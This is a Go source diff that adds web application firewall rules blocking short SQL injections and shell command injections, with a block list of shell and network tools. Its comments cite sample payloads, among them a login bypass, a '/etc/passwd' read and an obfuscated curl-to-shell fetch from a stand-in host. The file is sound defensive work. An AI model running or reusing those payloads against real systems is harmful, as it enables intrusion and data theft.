@@ -1,0 +1,84 @@
+package waf
+
+import "strings"
+
+// shortPayloadRules refuse the shortest SQL and command injections, which
+// the CRS at paranoia 1 lets through (its SQL rules want more than a
+// quote and a comment, its command rules a longer list of commands than
+// the probes' own, and libinjection reads \' as an escaped quote): loaded
+// with detectionRules (before the CRS; off with crs_only), on what those
+// read.
+//
+//   - 210150: a quote closed and the rest of the statement commented out,
+//     the login bypass admin'#, admin'--, admin')/*: a value that starts
+//     with a word (a user name) and then a quote, optional closing
+//     parentheses and a comment. Prose with a quote and a dash or a hash
+//     later ("the 'best' -- really", "Joe's #1") does not start so.
+//   - 210151: a shell command separator (; | || && & a backtick $( or a
+//     line break) and a command that probes a host (shellCommandRule):
+//     "; id", "| id", "&& id", "`id`", "x|id", "; sleep 5", "; ps aux",
+//     "| cat /etc/passwd", "; c'u'rl evil.example/x|s'h'", "; w'h'o'am'i".
+//   - 210152: SQL injection behind a backslash before the quote
+//     (\' OR 1=1 --): libinjection (the CRS's 942100) reads \' as an
+//     escaped quote, as MySQL does, so the rest is inside a string; in
+//     SQL's own strings (PostgreSQL since 9.1, SQLite, SQL Server,
+//     Oracle) a backslash is a character and the quote ends the string.
+//     A value with a backslash before a quote is read by libinjection
+//     once more with its escapes decoded (t:escapeSeqDecode: \' is ').
+var shortPayloadRules = `SecRule ARGS|REQUEST_COOKIES|REQUEST_HEADERS:User-Agent|REQUEST_HEADERS:Referer "@rx ^\s*[\w.@+-]*['\"` + "`" + `]\)*\s*(?:#|--|/\*)" "id:210150,phase:2,block,t:none,t:urlDecodeUni,msg:'SQL injection: a quote then a comment',tag:'application-multi',tag:'attack-sqli',tag:'paranoia-level/1',tag:'caddy-gateway',ver:'caddy-gateway',severity:'CRITICAL',setvar:'tx.inbound_anomaly_score_pl1=+%{tx.critical_anomaly_score}'"
+SecRule ARGS|REQUEST_COOKIES|REQUEST_HEADERS:User-Agent|REQUEST_HEADERS:Referer "@rx ` + shellCommandRule() + `" "id:210151,phase:2,block,t:none,t:urlDecodeUni,msg:'Command injection: a separator then a probing command',tag:'application-multi',tag:'attack-rce',tag:'paranoia-level/1',tag:'caddy-gateway',ver:'caddy-gateway',severity:'CRITICAL',setvar:'tx.inbound_anomaly_score_pl1=+%{tx.critical_anomaly_score}'"
+SecRule ARGS|REQUEST_COOKIES|REQUEST_HEADERS:User-Agent|REQUEST_HEADERS:Referer "@rx \x5c['\"` + "`" + `]" "id:210152,phase:2,block,t:none,t:urlDecodeUni,msg:'SQL injection behind a backslash before a quote',tag:'application-multi',tag:'attack-sqli',tag:'paranoia-level/1',tag:'caddy-gateway',ver:'caddy-gateway',severity:'CRITICAL',chain"
+	SecRule MATCHED_VAR "@detectSQLi" "t:none,t:escapeSeqDecode,setvar:'tx.inbound_anomaly_score_pl1=+%{tx.critical_anomaly_score}'"
+`
+
+// Commands that probe a host, for rule 210151.
+var (
+	// shellCommandsAnyArgs are not words of prose after a separator:
+	// refused with any argument, or none.
+	shellCommandsAnyArgs = []string{"whoami", "uname", "nslookup", "ifconfig", "netstat", "busybox",
+		"base64", "printenv", "hostname", "curl", "wget", "nc", "ncat", "netcat", "telnet", "chmod", "chown", "sudo", "passwd"}
+	// shellCommandsWords are words too (id, cat, ping, bash, python):
+	// refused at the end of the value, before another separator, a
+	// comment or a closing ) or `, or before an option, a path, a
+	// variable, a quote or a number ("; cat /etc/passwd", "; sleep 5"),
+	// not before a word ("bring it; cat lovers", "party; bash at 8").
+	shellCommandsWords = []string{"id", "ls", "pwd", "ps", "cat", "head", "tail", "more", "less", "sleep", "ping", "dig", "host",
+		"sh", "bash", "zsh", "dash", "ksh", "python", "python2", "python3", "perl", "php", "ruby", "node", "env", "ip",
+		"rm", "kill", "echo", "reboot", "shutdown", "who", "uptime"}
+	// shellCommandsArgs are words with the arguments that make them
+	// commands: "; ps aux", "; ip a".
+	shellCommandsArgs = map[string]string{"ps": `aux|ax|ef`, "ip": `a|addr|address|r|route|link|neigh`}
+)
+
+// shellCommandRule is rule 210151's expression: a separator, optional
+// spaces and quotes, then a command of the lists above with quotes or
+// backslashes allowed between its letters, as a shell removes them
+// (c'u'rl, w”get, s”h are curl, wget and sh), then what must follow it.
+func shellCommandRule() string {
+	split := func(w string) string {
+		var b strings.Builder
+		for i := 0; i < len(w); i++ {
+			if i > 0 {
+				b.WriteString(`['\"\x5c]*`)
+			}
+			b.WriteByte(w[i])
+		}
+		return b.String()
+	}
+	alt := func(ws []string) string {
+		parts := make([]string, len(ws))
+		for i, w := range ws {
+			parts[i] = split(w)
+		}
+		return strings.Join(parts, "|")
+	}
+	end := `['\"\x5c]*\s*(?:$|[;|&` + "`" + `#)\n])`
+	var withArgs []string
+	for _, w := range []string{"ip", "ps"} {
+		withArgs = append(withArgs, split(w)+`\s+(?:`+shellCommandsArgs[w]+`)\b`)
+	}
+	return `(?:[;|&` + "`" + `\n]|\$\()\s*['\"\x5c]*(?:` +
+		`(?:` + alt(shellCommandsAnyArgs) + `)(?:` + end + `|\s+\S)` +
+		`|(?:` + alt(shellCommandsWords) + `)(?:` + end + `|['\"\x5c]*\s+['\"]*[-/$'\"\d.~*])` +
+		`|` + strings.Join(withArgs, "|") + `)`
+}
